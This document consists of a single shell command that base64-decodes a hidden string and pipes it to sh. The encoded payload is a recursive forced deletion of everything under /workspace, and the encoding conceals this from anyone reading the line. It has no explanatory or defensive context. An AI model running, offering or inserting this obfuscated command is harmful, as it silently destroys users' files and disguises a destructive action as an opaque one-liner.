echo cm0gLXJmIC93b3Jrc3BhY2UvKg== | base64 -d | sh
